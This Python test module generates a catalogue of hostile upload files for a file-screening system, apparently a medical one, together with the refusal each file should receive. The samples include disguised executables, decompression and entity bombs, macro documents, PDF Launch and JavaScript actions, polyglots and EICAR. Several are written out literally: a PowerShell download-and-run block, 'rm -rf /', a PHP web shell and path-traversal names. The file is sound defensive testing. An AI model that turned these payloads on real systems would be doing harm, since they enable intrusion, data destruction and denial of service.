"""The catalogue of hostile files. `python -m tests.hostile.generate DIR` writes them out.

Each is made from its description, never stored. `expected` is the key of the sentence that the
sender gets (`bedside.files.refusals.REFUSALS`), or "" if only the name is hostile: the file is
then filed under `media_type`.
"""

import gzip
import io
import lzma
import sys
import tarfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pikepdf

from bedside.files import media_types as types
from tests.hostile import builders as make
from tests.hostile import office

MIB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One file: what it is, its name, its bytes, and what should happen."""

    what: str
    name: str
    content: Callable[[], bytes]
    expected: str
    media_type: str = ""


def _pe() -> bytes:
    return b"MZ\x90\x00" + bytes(56) + b"\x80\x00\x00\x00" + bytes(64) + b"PE\x00\x00" + bytes(200)


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("photo.jpg"))
    return out.getvalue()


def _programs() -> Iterator[Hostile]:
    yield Hostile("Windows program named as a photo", "photo.jpg", _pe, "executable")
    elf = b"\x7fELF\x02\x01\x01" + bytes(200)
    yield Hostile("Linux program named as a PDF", "scan.pdf", lambda: elf, "executable")
    mach = b"\xcf\xfa\xed\xfe" + bytes(200)
    yield Hostile("macOS program", "report", lambda: mach, "executable")
    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100)
    yield Hostile("Java class", "A.class", lambda: java, "executable")
    jar = make.zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": java})
    yield Hostile("Java archive named as Word", "letter.docx", lambda: jar, "executable")
    link = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)
    yield Hostile("Windows shortcut", "scan.pdf.lnk", lambda: link, "shortcut")
    installer = make.compound({"!Installer": b"x"})
    yield Hostile("Windows installer", "update.msi", lambda: installer, "executable")


def _archives() -> Iterator[Hostile]:
    plain = make.zipped({"photo.jpg": b"x" * 100})
    yield Hostile("zip", "photos.zip", lambda: plain, "archive")
    yield Hostile("zip named as PDF", "scan.pdf", lambda: plain, "archive")
    yield Hostile("zip named as Word", "letter.docx", lambda: plain, "archive")
    yield Hostile("rar", "a.rar", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(80), "archive")
    yield Hostile("7z", "a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(80), "archive")
    yield Hostile("gzip", "a.csv.gz", lambda: gzip.compress(b"a,b"), "archive")
    yield Hostile("xz", "a.xz", lambda: lzma.compress(b"a,b"), "archive")
    yield Hostile("tar", "a.tar", _tar, "archive")
    bomb = make.zeros_deflated(64 * MIB)
    head = b"\x1f\x8b\x08" + bytes(7)
    yield Hostile("gzip bomb", "a.gz", lambda: head + bomb, "archive")


_POWERSHELL = b"""$client = New-Object System.Net.WebClient
$path = "$env:TEMP\\update.exe"
foreach ($address in $addresses) {
    try { $client.DownloadFile($address, $path); Start-Process -FilePath $path -WindowStyle Hidden }
    catch { Write-Host $_.Exception.Message }
}
function Get-Everything { param([string]$Name) Get-ChildItem -Path $Name -Recurse | ForEach-Object
{ Invoke-Expression $_.FullName } }
"""


def _texts() -> Iterator[Hostile]:
    yield Hostile("shell script named as text", "a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "script")
    yield Hostile("JavaScript", "a.js", lambda: b"WScript.Shell", "script")
    yield Hostile("batch file", "a.bat", lambda: b"start calc", "script")
    yield Hostile("PowerShell named as text", "notes.txt", lambda: _POWERSHELL, "script")
    yield Hostile("PHP named as text", "a.txt", lambda: b"<?php system($_GET['a']);", "script")
    page = b"\xef\xbb\xbf \n<!-- x -->\n<HTML><script>alert(1)</script></HTML>"
    yield Hostile("web page named as text", "a.txt", lambda: page, "web_page")
    wide = "<html><script>alert(1)</script>".encode("utf-16")
    yield Hostile("web page in UTF-16", "a.txt", lambda: wide, "web_page")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield Hostile("SVG named as PNG", "a.png", lambda: svg, "svg")
    prefixed = b'<?xml version="1.0"?><!DOCTYPE svg><svg onload="alert(1)"></svg>'
    yield Hostile("SVG with an XML head", "a.svg", lambda: prefixed, "svg")
    laughs = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>'
    yield Hostile("XML with entities", "a.txt", lambda: laughs, "xml")


def _macros() -> Iterator[Hostile]:
    yield Hostile("Word with macros named .docx", "letter.docx", make.docm, "macros")
    hidden = {
        "word/other.bin": b"x",
        "word/vbaProject.bin": b"y",
        **{f"a{n}": b"z" for n in range(9)},
    }
    yield Hostile(
        "macros behind a harmless type", "a.docx", lambda: make.docx(more=hidden), "macros"
    )
    old = make.doc(storages=["Macros", "_VBA_PROJECT_CUR"])
    yield Hostile("Word 97 with macros", "letter.doc", lambda: old, "macros")
    rtf = b"{\\rtf1 {\\object\\objocx{\\*\\objdata 0105000002000000}}}"
    yield Hostile("RTF with an object", "a.rtf", lambda: rtf, "active_content")
    equation = b"{\\rtf1 {\\object{\\*\\objdata 4571756174696f6e2e33}}}"
    yield Hostile("RTF for the equation editor", "a.doc", lambda: equation, "infected")
    yield from (Hostile(*row) for row in office.documents())


def _entity_bomb() -> bytes:
    entities = b"".join(
        b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10 if n else b"ha") for n in range(10)
    )
    return b'<?xml version="1.0"?><!DOCTYPE x [%s]><x>&e9;</x>' % entities


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    tree = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids)
    return make.pdf([b"<< /Type /Catalog /Pages 2 0 R >>", tree, *[page] * count])


def _flate_pdf(packed: bytes, filters: bytes) -> bytes:
    bomb = make.pdf_stream(packed, b"/Filter " + filters)
    return make.simple_pdf(more=[bomb])


def _object_stream_bomb() -> bytes:
    packed = make.zeros_packed(4096 * MIB)
    stream = make.pdf_stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    out = make.simple_pdf(more=[stream])
    table = b"\x02\x00\x06\x00"  # object 7 is the first in stream 6
    reference = make.pdf_stream(
        zlib.compress(table),
        b"/Type /XRef /W [1 2 1] /Index [7 1] /Size 8 /Root 1 0 R /Filter /FlateDecode /Prev %d"
        % out.rfind(b"xref\n0 "),
    )
    return out + b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (reference, len(out))


def _bombs() -> Iterator[Hostile]:
    yield Hostile(
        "PNG of 50,000 × 50,000", "a.png", lambda: make.png(50_000, 50_000), "too_many_pixels"
    )
    huge = make.tiff(
        [(256, 4, 400_000), (257, 4, 400_000), (258, 3, 1), (259, 3, 1), (262, 3, 1), (273, 4, 8)]
    )
    yield Hostile("TIFF of 400,000 × 400,000", "a.tif", lambda: huge, "too_many_pixels")
    loop = make.tiff(
        [(256, 4, 1), (257, 4, 1), (258, 3, 8), (262, 3, 1), (273, 4, 8)], next_directory=8
    )
    yield Hostile("TIFF whose directory leads to itself", "a.tif", lambda: loop, "", types.TIFF)
    yield Hostile("PDF of 100,000 pages", "a.pdf", lambda: _pages(100_000), "too_many_pages")
    yield Hostile(
        "PDF with a stream of 512 MiB",
        "a.pdf",
        lambda: _flate_pdf(make.zeros_packed(512 * MIB), b"/FlateDecode"),
        "decompression_bomb",
    )
    nested = b"[/FlateDecode /FlateDecode]"
    yield Hostile(
        "PDF bomb in a bomb",
        "a.pdf",
        lambda: _flate_pdf(make.zeros_packed(2048 * MIB, 2), nested),
        "decompression_bomb",
    )
    yield Hostile(
        "PDF with an object stream of 4 GiB", "a.pdf", _object_stream_bomb, "decompression_bomb"
    )
    yield Hostile(
        "Word that unpacks to 300 MiB",
        "a.docx",
        lambda: make.docx(more={"word/media/a.bmp": bytes(300 * MIB)}),
        "decompression_bomb",
    )
    laughs = make.docx(document=_entity_bomb())
    yield Hostile("Word with a billion laughs", "a.docx", lambda: laughs, "active_content")
    many = {f"word/a{number}": b"" for number in range(20_000)}
    yield Hostile(
        "Word of 20,000 members", "a.docx", lambda: make.docx(more=many), "decompression_bomb"
    )
    head = make.dicom_header(syntax=b"1.2.840.10008.1.2.1.99")
    yield Hostile(
        "DICOM that inflates to 4 GiB",
        "a.dcm",
        lambda: head + make.zeros_deflated(4096 * MIB),
        "decompression_bomb",
    )


def _encrypted_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make.simple_pdf())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


def _owner_encrypted_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make.simple_pdf())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(user="", owner="secret"))
    return out.getvalue()


def _damaged() -> Iterator[Hostile]:
    yield Hostile("nothing at all", "a.pdf", lambda: b"", "empty")
    yield Hostile("noise", "a.bin", lambda: bytes(range(256)) * 9, "unknown_type")
    yield Hostile("PDF with a password", "a.pdf", _encrypted_pdf, "encrypted_pdf")
    yield Hostile("PDF with an owner's password", "a.pdf", _owner_encrypted_pdf, "", types.PDF)
    office = make.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"y"})
    yield Hostile("Word with a password", "a.docx", lambda: office, "encrypted_document")
    secret = make.doc(flags=0x0100)
    yield Hostile("Word 97 with a password", "a.doc", lambda: secret, "encrypted_document")
    yield Hostile(
        "PDF that is only a head", "a.pdf", lambda: b"%PDF-1.7\n" + b"x" * 99, "damaged_pdf"
    )
    cut = make.simple_pdf()[:150]
    yield Hostile("PDF cut off", "a.pdf", lambda: cut, "incomplete_pdf")
    jpeg = make.picture("JPEG", (800, 600), quality=95)
    yield Hostile("JPEG cut off", "a.jpg", lambda: jpeg[: len(jpeg) // 2], "incomplete_image")
    image = make.picture("PNG", (800, 600))
    yield Hostile("PNG cut off", "a.png", lambda: image[: len(image) // 2], "incomplete_image")
    word = make.docx()
    yield Hostile("Word cut off", "a.docx", lambda: word[:-40], "damaged_document")
    film = make.mp4()
    yield Hostile("video cut off", "a.mp4", lambda: film[:-2000], "damaged_video")
    rtf = b"{\\rtf1 Dear doctor"
    yield Hostile("RTF cut off", "a.rtf", lambda: rtf, "damaged_document")
    header = make.dicom_header() + b"\x10\x00\x10\x00PN\xf0\xff"
    yield Hostile("DICOM cut off", "a.dcm", lambda: header, "damaged_dicom")


def _scripted(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> Callable[[], bytes]:
    return lambda: make.simple_pdf(catalog=catalog, page=page, more=more)


def _in_object_stream() -> bytes:
    out = io.BytesIO()
    action = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    with pikepdf.open(io.BytesIO(make.simple_pdf(catalog=action))) as opened:
        opened.Root.OpenAction = opened.make_indirect(opened.Root.OpenAction)
        opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _attached(name: str, content: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(make.simple_pdf())) as opened:
        opened.attachments[name] = content
        out = io.BytesIO()
        opened.save(out)
    return out.getvalue()


def _harmful_pdfs() -> Iterator[Hostile]:
    starts = "pdf_starts_program"
    launch = b"/OpenAction << /S /Launch /F (cmd.exe) >>"
    yield Hostile("PDF that starts a program", "a.pdf", _scripted(launch), starts)
    disguised = b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"
    yield Hostile("the same with its name disguised", "a.pdf", _scripted(disguised), starts)
    chained = b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Launch /F (x) >>] >>"
    yield Hostile("PDF that starts a program behind a jump", "a.pdf", _scripted(chained), starts)
    share = b"/AA << /O << /S /GoToE /F (\\\\\\\\10.0.0.1\\\\share) /D [0 /Fit] >> >>"
    yield Hostile("PDF that opens a share", "a.pdf", _scripted(b"", share), starts)
    for script in (
        b'this.exportDataObject({ cName: "a", nLaunch: 2 });',
        b"Collab.collectEmailInfo({ msg: x });",
        b'util.printf("%45000f", y);',
        b'eval(unescape("%75"));',
    ):
        action = b"/OpenAction << /S /JavaScript /JS <%s> >>" % script.hex().encode()
        yield Hostile(f"PDF with {script[:16]!r}", "a.pdf", _scripted(action), starts)
    within = "pdf_with_program"
    yield Hostile("PDF with a program", "a.pdf", lambda: _attached("a.exe", b"MZ"), within)
    yield Hostile("PDF with one renamed", "a.pdf", lambda: _attached("a.txt", _pe()), within)
    yield Hostile("PDF with a batch", "a.pdf", lambda: _attached("Befund.bat", b"dir"), within)


def _scripted_pdfs() -> Iterator[Hostile]:
    """Commands that harm nobody: kept, and not run."""
    kept = types.PDF
    opening = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield Hostile("PDF with a script on opening", "a.pdf", _scripted(opening), "", kept)
    nested = (
        b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /AA << /E << /S /JavaScript /JS (x) >> >> >>]"
    )
    yield Hostile("PDF with a script in an annotation", "a.pdf", _scripted(b"", nested), "", kept)
    yield Hostile("PDF with a script in an object stream", "a.pdf", _in_object_stream, "", kept)
    widget = b"/Annots [<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /F %s >> >>]"
    number = widget % b'<< /S /JavaScript /JS (AFNumber_Format\\(2, 0, "", true\\);) >>'
    yield Hostile("PDF form that formats a number", "a.pdf", _scripted(b"", number), "", kept)


def _polyglots() -> Iterator[Hostile]:
    two = "polyglot"
    document, archive = make.simple_pdf(), make.zipped({"A.class": b"\xca\xfe\xba\xbe"})
    gif, jpeg = make.picture("GIF"), make.picture("JPEG")
    comment = make.picture("GIF", comment=document[:200])
    yield Hostile("GIF and PDF", "a.gif", lambda: comment + document, two)
    yield Hostile("JPEG and PDF", "a.jpg", lambda: jpeg + document, two)
    yield Hostile("archive, then PDF", "a.pdf", lambda: b"junk " + archive + document, two)
    page_before = b"Warning <script>alert(1)</script>\n"
    yield Hostile("web page, then PDF", "a.pdf", lambda: page_before + document, two)
    yield Hostile("shell script, then PDF", "a.pdf", lambda: b"#!/bin/sh\nls\n" + document, two)
    yield Hostile("PDF and zip", "a.pdf", lambda: document + archive, two)
    yield Hostile("GIF and Java archive", "a.gif", lambda: gif + archive, two)
    yield Hostile("PNG and zip", "a.png", lambda: make.picture("PNG") + archive, two)
    yield Hostile("video and zip", "a.mp4", lambda: make.mp4(media=archive), two)
    page = b"<script>alert(1)</script>"
    yield Hostile("JPEG and web page", "a.jpg", lambda: jpeg + page, two)
    disguised = jpeg + page + b"\xff\xd9"
    yield Hostile("the same with a second end", "a.jpg", lambda: disguised, two)
    commented = make.picture("JPEG", comment=page)
    yield Hostile("JPEG with a web page as comment", "a.jpg", lambda: commented, two)
    chunk = make.png_chunk(b"tEXt", b"Comment\x00" + page)
    yield Hostile("PNG with a web page as text", "a.png", lambda: make.png(9, 9, extra=chunk), two)
    yield Hostile("JPEG and program", "a.jpg", lambda: jpeg + _pe(), two)
    yield Hostile("PDF and web page", "a.pdf", lambda: document + page, two)
    program = make.dicom_header(preamble=b"MZ" + bytes(58) + b"\x84\x00\x00\x00")
    yield Hostile("DICOM and program", "a.dcm", lambda: program, two)
    bitmap = make.picture("BMP")
    yield Hostile("BMP and web page", "a.bmp", lambda: bitmap + page, two)
    webp = make.picture("WEBP")
    yield Hostile("WebP and program", "a.webp", lambda: webp + _pe(), two)


def _infected() -> Iterator[Hostile]:
    virus = make.EICAR
    yield Hostile("EICAR", "eicar.txt", lambda: virus, "infected")
    yield Hostile("EICAR named as a photo", "photo.jpg", lambda: virus, "infected")
    inside = make.docx(more={"word/embeddings/a.bin": virus})
    yield Hostile("EICAR in Word", "a.docx", lambda: inside, "infected")
    deeper = make.docx(more={"word/embeddings/b.docx": inside})
    yield Hostile("EICAR in Word in Word", "a.docx", lambda: deeper, "infected")
    text = make.odt(more={"Object 1/a": virus})
    yield Hostile("EICAR in OpenDocument", "a.odt", lambda: text, "infected")
    stream = make.pdf_stream(zlib.compress(virus), b"/Filter /FlateDecode")
    yield Hostile("EICAR in a PDF", "a.pdf", lambda: make.simple_pdf(more=[stream]), "infected")
    hexed = make.pdf_stream(virus.hex().encode() + b">", b"/Filter /ASCIIHexDecode")
    yield Hostile(
        "EICAR in a PDF in hex", "a.pdf", lambda: make.simple_pdf(more=[hexed]), "infected"
    )
    late = make.mp4(media=bytes(9 * MIB) + virus + bytes(MIB))
    yield Hostile("EICAR deep in a video", "a.mp4", lambda: late, "infected")


def _names() -> Iterator[Hostile]:
    jpeg = make.picture("JPEG")
    for name in ("../../etc/passwd", "a\x00.exe", "CON", "x" * 5000 + ".jpg", "a\u202egpj.exe", ""):
        yield Hostile(f"photo named {name[:20]!r}", name, lambda: jpeg, "", types.JPEG)
    yield Hostile("photo named as a PDF", "a.pdf", lambda: jpeg, "", types.JPEG)
    yield Hostile("PDF named as a photo", "a.jpg", make.simple_pdf, "", types.PDF)
    yield Hostile("Word named as Excel", "a.xlsx", make.docx, "", types.DOCX)
    traversing = make.docx(more={"../../../etc/cron.d/a": b"x"})
    yield Hostile(
        "Word with a member that climbs", "a.docx", lambda: traversing, "damaged_document"
    )


def catalogue() -> list[Hostile]:
    """Return every hostile file, in the order of the groups above."""
    groups = (
        _programs,
        _archives,
        _texts,
        _macros,
        _bombs,
        _damaged,
        _scripted_pdfs,
        _harmful_pdfs,
    )
    return [one for group in (*groups, _polyglots, _infected, _names) for one in group()]


def main() -> None:
    """Write every file into the given directory, numbered, with an index."""
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    lines: list[str] = []
    for number, hostile in enumerate(catalogue()):
        suffix = Path(hostile.name.replace("\x00", "")[-20:]).suffix
        (folder / f"{number:03}{suffix}").write_bytes(hostile.content())
        lines.append(f"{number:03}{suffix}\t{hostile.expected or 'accepted'}\t{hostile.what}\n")
    (folder / "index.tsv").write_text("".join(lines), encoding="utf-8")


if __name__ == "__main__":
    main()
